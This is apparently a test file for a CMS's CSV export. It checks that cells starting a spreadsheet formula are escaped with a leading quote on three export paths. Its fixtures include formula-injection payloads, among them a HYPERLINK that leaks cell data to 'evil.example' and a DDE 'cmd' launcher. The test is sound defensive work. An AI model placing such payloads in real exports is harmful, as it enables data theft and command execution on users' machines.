import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { lastNotificationId, waitForNotification } from '../../../test/harness/export-fixtures.js';
import { startTestServer, TEST_ADMIN, type TestServer } from '../../../test/harness/start-test-server.js';
import { testDatabasesFor } from '../../../test/harness/test-databases.js';
import { runCli } from '../../cli/run-cli.js';

const DATABASES = testDatabasesFor(import.meta.url);

const ROWS = [
  { id: 1, note: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', amount: -5, price: '-5.50' },
  { id: 2, note: "+1+cmd|' /C calc'!A0", amount: 3, price: null },
  { id: 3, note: '-2+3', amount: 0, price: '2.00' },
  { id: 4, note: '@SUM(A1:A3)', amount: -1, price: null },
  { id: 5, note: '\tleading tab', amount: 1, price: null },
  { id: 6, note: '\rleading CR', amount: 1, price: null },
  { id: 7, note: 'plain, "quoted"', amount: 1, price: null },
];

/** The records of a CSV file: the header row first. */
const recordsOf = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

/**
 * Issue 38, point 3: text starting a spreadsheet formula is written with a leading `'` in every CSV
 * export (EXPORT_CSV_ESCAPE_FORMULAS, on by default); numbers, negative ones included, stay numbers.
 */
describe.each(DATABASES)('formulas in CSV exports on %s', (client) => {
  let escaping: TestServer;
  let raw: TestServer;
  let dir: string;

  beforeAll(async () => {
    [escaping, raw] = await Promise.all([
      startTestServer({ client }),
      startTestServer({ client, env: { EXPORT_CSV_ESCAPE_FORMULAS: 'false' } }),
    ]);
    for (const server of [escaping, raw]) {
      const db = server.server.ctx.db;
      await db.schema.createTable('ledger', (table) => {
        table.increments('id');
        table.string('note');
        table.integer('amount');
        table.decimal('price', 8, 2).nullable();
      });
      await db('ledger').insert(ROWS);
      await db('directus_collections').insert({ collection: 'ledger' });
      server.server.ctx.schema.invalidate();
    }
    dir = mkdtempSync(join(tmpdir(), 'tessera-csv-formulas-'));
  });
  afterAll(async () => {
    vi.unstubAllEnvs();
    rmSync(dir, { recursive: true, force: true });
    await Promise.all([escaping?.close(), raw?.close()]);
  });

  /** The three ways to a CSV file: `?export=csv`, `/utils/export` (a file in the library), `tessera export`. */
  const exports: Record<string, (server: TestServer) => Promise<string>> = {
    '?export=csv': async (server) => {
      const response = await server.asAdmin('/items/ledger?export=csv&sort=id');
      expect(response.status).toBe(200);
      return response.text();
    },
    '/utils/export': async (server) => {
      const db = server.server.ctx.db;
      const admin = (await db('directus_users').where('email', TEST_ADMIN.email).first('id')) as { id: string };
      const after = await lastNotificationId(db);
      const started = await server.asAdmin('/utils/export/ledger', { method: 'POST', json: { format: 'csv', query: { sort: ['id'] } } });
      expect(started.status).toBe(204);
      const notification = await waitForNotification(db, admin.id, after);
      return (await server.asAdmin(`/assets/${notification.item!}`)).text();
    },
    'tessera export': async (server) => {
      const settings = server.database.settings;
      vi.stubEnv('DB_CLIENT', settings.DB_CLIENT);
      vi.stubEnv('DB_FILENAME', settings.DB_FILENAME);
      if (settings.DB_DATABASE) vi.stubEnv('DB_DATABASE', settings.DB_DATABASE);
      vi.stubEnv('DATA_DIR', server.database.dataDir);
      vi.stubEnv('LOG_LEVEL', 'silent');
      vi.stubEnv('SECRET', 'test-secret-that-is-long-enough-for-hs256');
      vi.stubEnv('KEY', 'test-key');
      vi.stubEnv('EXPORT_CSV_ESCAPE_FORMULAS', server.config.EXPORT_CSV_ESCAPE_FORMULAS ? '' : 'false');
      const file = join(dir, `${server === raw ? 'raw' : 'escaped'}.csv`);
      const io = { stdout: new PassThrough(), stderr: new PassThrough(), interactive: false };
      try {
        expect(await runCli(['export', 'ledger', file], io)).toBe(0);
      } finally {
        vi.unstubAllEnvs();
      }
      return readFileSync(file, 'utf8');
    },
  };

  it.each(Object.keys(exports))('%s: prefixes formulas with a quote by default, numbers left as numbers', async (path) => {
    const csv = await exports[path]!(escaping);
    const [header, ...records] = recordsOf(csv);
    expect(header).toEqual(['id', 'note', 'amount', 'price']);
    expect(records.map((record) => record[1])).toEqual(ROWS.map((row) => (row.id === 7 ? row.note : `'${row.note}`)));
    expect(records.map((record) => record[2])).toEqual(['-5', '3', '0', '-1', '1', '1', '1']);
    // A negative integer is a bare number; a negative decimal (a number, or text on some databases) is never prefixed.
    expect(csv.split('\n')[1]).toMatch(/,-5,"?-5\.50?"?$/);
  });

  it.each(Object.keys(exports))('%s: writes every value as it is with EXPORT_CSV_ESCAPE_FORMULAS=false', async (path) => {
    const csv = await exports[path]!(raw);
    const [, ...records] = recordsOf(csv);
    expect(records.map((record) => record[1])).toEqual(ROWS.map((row) => row.note));
    expect(records.map((record) => record[2])).toEqual(['-5', '3', '0', '-1', '1', '1', '1']);
  });
});
